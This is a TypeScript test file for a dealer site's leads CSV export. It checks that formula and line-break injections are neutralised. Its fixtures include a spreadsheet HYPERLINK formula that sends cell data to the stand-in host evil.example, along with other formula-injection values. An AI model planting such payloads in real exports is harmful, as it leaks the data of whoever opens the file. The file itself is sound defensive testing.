import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import * as s from '@/server/db/schema';
import { postLeadForTest } from '@/server/lead-intake/testing';
import { loadLeadForm } from '@/server/lead-forms/load-form';
import { isolationSiteContextsForThisFile } from '@/server/sites/testing/isolation-site-contexts';
import { LEADS_EXPORT_ENDPOINT } from './lead-endpoints';

const NOW = new Date('2026-03-02T01:00:00Z');
const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click")';
const test = isolationSiteContextsForThisFile({ now: NOW });

/** A buyer's enquiry through the lead API, as the form sends it, with attribution the buyer controls. */
async function postLead(name: string, source: string, now: Date): Promise<string> {
  const form = await loadLeadForm(test.db, test.siteA, { kind: 'enquiry', carId: null });
  const body = {
    form_type: 'enquiry',
    car_id: null,
    idempotency_key: `export-test-key-${String(now.getTime()).padStart(16, '0')}`,
    fields: {
      ...form?.setup.initialValues,
      name,
      email: 'ada@example.com',
      phone: '0412 345 678',
      message: 'Hi',
    },
    user_data: { url: '/cars', source },
    homepage_url: '',
    opened_at: now.getTime() - 20_000,
  };
  const answer = await postLeadForTest(test.db, test.siteA, body, { now, ip: null, userAgent: null });
  expect(answer.status).toBe(201);
  return (answer.body as { lead_id: string }).lead_id;
}

/** A lead stored before the API cleaned attribution: its raw text reaches the export as it is. */
async function storeOldLead(name: string, source: string, createdAt: Date) {
  await test.db.insert(s.leads).values({
    siteId: test.siteA.id,
    formType: 'enquiry',
    category: 'General Enquiry',
    name,
    email: 'old@example.com',
    phone: '0412 345 678',
    payload: { fields: {} },
    userData: { source },
    createdAt,
  });
}

async function exportRows(): Promise<string[][]> {
  const staff = { id: 1, email: 'owner@dealer.example', name: null, role: 'owner' as const };
  const context = { db: test.db, site: test.siteA, staff, now: NOW, origin: 'http://alpha.localhost:3000' };
  const answer = await LEADS_EXPORT_ENDPOINT.run(context, {});
  expect(answer.status).toBe(200);
  // Any line break outside quotes ends a row, as Excel and LibreOffice read a file.
  const recordDelimiter = ['\r\n', '\n', '\r'];
  return parse(await answer.text(), {
    bom: true,
    record_delimiter: recordDelimiter,
    relax_column_count: true,
  });
}

describe('the leads CSV export (issue 38, finding 2)', () => {
  it('stores a posted source without its line break, as the other fields are cleaned', async () => {
    const leadId = await postLead('Ada Buyer', '\n=1+1', new Date('2026-03-02T00:30:00Z'));
    const [row] = await test.db
      .select({ userData: s.leads.userData })
      .from(s.leads)
      .where(eq(s.leads.id, leadId));
    expect(row?.userData).toEqual({ url: '/cars', source: '=1+1' });
  });

  it('writes one row per lead and no cell a spreadsheet would run, old rows included', async () => {
    await postLead(HYPERLINK, '\r\n@SUM(1)', NOW);
    await storeOldLead(HYPERLINK, '\n=1+1', new Date('2026-03-01T00:00:00Z'));
    await storeOldLead('Old Buyer', 'google\r-2+3', new Date('2026-03-01T12:00:00Z'));
    const rows = await exportRows();
    expect(rows).toHaveLength(1 + 4);
    expect(rows.every((row) => row.length === 14)).toBe(true);
    const cells = rows.flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r\n]/.test(cell))).toEqual([]);
    const bySource = rows.slice(1).map((row) => [row[6], row[11]]);
    expect(bySource).toEqual([
      [`'${HYPERLINK}`, "'@SUM(1)"],
      ['Ada Buyer', "'=1+1"],
      ['Old Buyer', 'google\r-2+3'],
      [`'${HYPERLINK}`, "'\n=1+1"],
    ]);
  });
});
